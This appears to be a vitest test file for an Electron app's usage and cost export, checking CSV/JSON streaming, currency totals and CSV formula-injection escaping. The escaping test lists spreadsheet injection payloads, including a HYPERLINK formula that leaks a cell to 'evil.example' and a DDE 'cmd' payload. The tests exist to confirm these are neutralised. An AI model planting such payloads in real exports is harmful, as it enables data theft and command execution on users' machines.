import { describe, expect, it } from 'vitest';
import { exportStream, type ExportStreamRow } from '../../../../electron/hosts/http/export-stream.js';
import type { Circuit, ExportRow, Money, Summary } from '../../../../shared/types.js';
import { csvRecords } from './csv.js';
import { HOUR, qs, type TestServer, useServerPerTest } from './helpers.js';

const T0 = Math.floor((Date.now() - 6 * HOUR) / HOUR) * HOUR;
const RANGE = { from: T0 - HOUR, to: T0 + 5 * HOUR };

function row(overrides: Partial<ExportStreamRow>): ExportStreamRow {
  return {
    id: '1',
    ts: T0,
    model: 'm',
    apiType: null,
    inputTokens: 1,
    outputTokens: 0,
    cacheReadTokens: 0,
    cacheWriteTokens: 0,
    success: true,
    failureClass: null,
    statusCode: null,
    latencyMs: null,
    ttftMs: null,
    channel: null,
    source: null,
    requestId: null,
    cost: null,
    currency: null,
    ...overrides,
  };
}

async function csvOf(rows: ExportStreamRow[]): Promise<{ text: string; records: Record<string, string>[] }> {
  let text = '';
  for await (const piece of exportStream([rows][Symbol.iterator](), 'csv')) text += String(piece);
  return { text, records: csvRecords(text) };
}

async function exported(chunks: ExportStreamRow[][], format: 'csv' | 'json'): Promise<string> {
  let text = '';
  for await (const piece of exportStream(chunks[Symbol.iterator](), format)) text += String(piece);
  return text;
}

describe('the export over the ledger\'s chunks', () => {
  const rows = (from: number, count: number) => Array.from({ length: count }, (_, i) => row({ id: String(from + i), ts: T0 + from + i, inputTokens: from + i }));
  // Chunks as the request log hands them out, an empty one among them.
  const CHUNKS = [rows(0, 3), [], rows(3, 1), rows(4, 5)];

  it('CSV: one header line, then every row once, in order, whatever the chunks', async () => {
    const text = await exported(CHUNKS, 'csv');
    expect(text.split('\n').filter((line) => line.startsWith('time,ts,model'))).toHaveLength(1);
    expect(text.startsWith('time,ts,model,')).toBe(true);
    expect(csvRecords(text).map((record) => Number(record['inputTokens']))).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8]);
  });

  it('JSON: one array of every row, in order, whatever the chunks', async () => {
    const parsed = JSON.parse(await exported(CHUNKS, 'json')) as ExportStreamRow[];
    expect(parsed.map((r) => r.inputTokens)).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8]);
  });

  it('an export of nothing is the header alone, or an empty array', async () => {
    for (const chunks of [[], [[]]]) {
      expect(await exported(chunks, 'csv')).toBe(`${(await exported([rows(0, 1)], 'csv')).split('\n')[0]}\n`);
      expect(JSON.parse(await exported(chunks, 'json'))).toEqual([]);
    }
  });
});

describe('the CSV export, opened in a spreadsheet', () => {
  const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"invoice")', '@SUM(A1:A9)', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '\t=1+1', '＝1+1'];

  it('runs no formula: every cell a spreadsheet would evaluate starts with an apostrophe', async () => {
    const { records } = await csvOf(
      FORMULAS.map((text, index) => row({ id: String(index), model: text, source: text, requestId: text, channelLabel: text, route: text, failureClass: null })),
    );
    expect(records).toHaveLength(FORMULAS.length);
    records.forEach((record, index) => {
      for (const column of ['model', 'source', 'requestId', 'channelLabel', 'route']) expect(record[column]).toBe(`'${FORMULAS[index]}`);
    });
  });

  it('keeps numbers as numbers, negative ones too', async () => {
    const { records } = await csvOf([row({ cost: -0.5, currency: 'USD', latencyMs: 12 })]);
    expect(records[0]).toMatchObject({ cost: '-0.5', latencyMs: '12', currency: 'USD' });
  });

  it('carries no NUL or other control character; tabs and line breaks stay inside quoted cells', async () => {
    const { text, records } = await csvOf([row({ model: 'ok', requestId: 'a\u0000b\u001b[31mc\u007f\u0085', source: 'line\nbreak\ttab' })]);
    expect(text).not.toMatch(/(?![\t\n\r])\p{Cc}/u);
    expect(records[0]).toMatchObject({ requestId: 'a\uFFFDb\uFFFD[31mc\uFFFD\uFFFD', source: 'line\nbreak\ttab' });
  });
});

let server: TestServer;
useServerPerTest((started) => (server = started));

describe('GET /api/v1/export: costs and names', () => {
  async function seed(): Promise<{ metricsKey: string }> {
    await server.put('/api/v1/pricing/qwen-local', { method: 'hourly', currency: 'CNY', hourly: 3.5 });
    await server.put('/api/v1/pricing/gpt-5-mini', { method: 'tokens', currency: 'USD', tiers: [{ maxPromptTokens: null, input: 0.25, output: 2 }] });
    await server.put('/api/v1/pricing/deepseek', { method: 'tokens', currency: 'CNY', tiers: [{ maxPromptTokens: null, input: 2, output: 8 }] });
    await server.put('/api/v1/circuits', {
      channel: { baseUrl: 'https://api.openai.com/v1', apiKey: 'sk-test-export-0123456789' },
      apiType: 'openai',
      state: 'closed',
      label: 'OpenAI work key',
    });
    const metricsKey = (await server.get<Circuit[]>('/api/v1/circuits')).find((circuit) => circuit.label === 'OpenAI work key')!.metricsKey;
    await server.post('/api/v1/requests', [
      { ts: T0 + 10 * 60_000, model: 'gpt-5-mini', apiType: 'openai', channel: metricsKey, source: 'proxy:work', inputTokens: 400_000, outputTokens: 50_000, requestId: 'g-1' },
      { ts: T0 + 20 * 60_000, model: 'deepseek', inputTokens: 1_000_000, outputTokens: 100_000, requestId: 'd-1' },
      { ts: T0 + 30 * 60_000, model: 'qwen-local', inputTokens: 900, outputTokens: 512, source: 'llama-server', requestId: 'q-1' },
    ]);
    // 1.5 h of the hourly model in the range, one run cut by the range's start, one still running.
    await server.post('/api/v1/runs', { model: 'qwen-local', event: 'start', ts: T0 - 2 * HOUR });
    await server.post('/api/v1/runs', { model: 'qwen-local', event: 'stop', ts: T0 - HOUR + 30 * 60_000 });
    await server.post('/api/v1/runs', { model: 'qwen-local', event: 'start', ts: T0 + 4 * HOUR });
    return { metricsKey };
  }

  const totals = (rows: readonly { cost: number | null; currency: string | null }[]): Money => {
    const sums: Money = {};
    for (const r of rows) if (r.cost !== null && r.currency !== null) sums[r.currency] = (sums[r.currency] ?? 0) + r.cost;
    return sums;
  };

  it("carries the hourly runtime cost as run rows, so its totals per currency are the summary's", async () => {
    await seed();
    const summary = await server.get<Summary>(`/api/v1/summary${qs(RANGE)}`);
    const rows = (await server.call<ExportRow[]>('GET', `/api/v1/export${qs({ format: 'json', ...RANGE })}`)).body;
    const runs = rows.filter((r) => r.kind === 'run');
    expect(runs.map((r) => r.model)).toEqual(['qwen-local', 'qwen-local']);
    expect(runs[0]).toMatchObject({ ts: RANGE.from, runtimeMs: 30 * 60_000, currency: 'CNY', requestId: null, inputTokens: 0 });
    expect(runs[0]!.cost).toBeCloseTo(1.75, 9);
    // Before: the export had request rows only, and the CNY total was the tokens' alone.
    const exported = totals(rows);
    expect(Object.keys(exported).sort()).toEqual(Object.keys(summary.totals.cost ?? {}).sort());
    for (const [currency, amount] of Object.entries(summary.totals.cost ?? {})) expect(exported[currency]).toBeCloseTo(amount, 6);
    expect(runs.reduce((sum, r) => sum + (r.runtimeMs ?? 0), 0)).toBe(summary.totals.runtimeSeconds * 1000);

    // The CSV says the same.
    const csv = csvRecords((await server.call('GET', `/api/v1/export${qs({ format: 'csv', ...RANGE })}`)).text,);
    const csvTotals = totals(csv.map((r) => ({ cost: r['cost'] === '' ? null : Number(r['cost']), currency: r['currency'] || null })));
    for (const [currency, amount] of Object.entries(summary.totals.cost ?? {})) expect(csvTotals[currency]).toBeCloseTo(amount, 6);
    expect(csv.filter((r) => r['kind'] === 'run')).toHaveLength(2);
  });

  it("names the channel by its label and the proxy route, keeping the metricsKey in its own column", async () => {
    const { metricsKey } = await seed();
    const rows = (await server.call<ExportRow[]>('GET', `/api/v1/export${qs({ format: 'json', ...RANGE })}`)).body;
    const proxied = rows.find((r) => r.requestId === 'g-1')!;
    expect(proxied).toMatchObject({ kind: 'request', channel: metricsKey, channelLabel: 'OpenAI work key', route: 'work' });
    expect(rows.find((r) => r.requestId === 'q-1')).toMatchObject({ channel: null, channelLabel: null, route: null, source: 'llama-server' });
    const csv = csvRecords((await server.call('GET', `/api/v1/export${qs({ format: 'csv', ...RANGE })}`)).text,);
    expect(csv.find((r) => r['requestId'] === 'g-1')).toMatchObject({ channel: metricsKey, channelLabel: 'OpenAI work key', route: 'work' });
  });

  it('has no run rows for a model filter that matches no model', async () => {
    await seed();
    expect((await server.call<ExportRow[]>('GET', `/api/v1/export${qs({ format: 'json', model: 'nobody' })}`)).body).toEqual([]);
  });
});
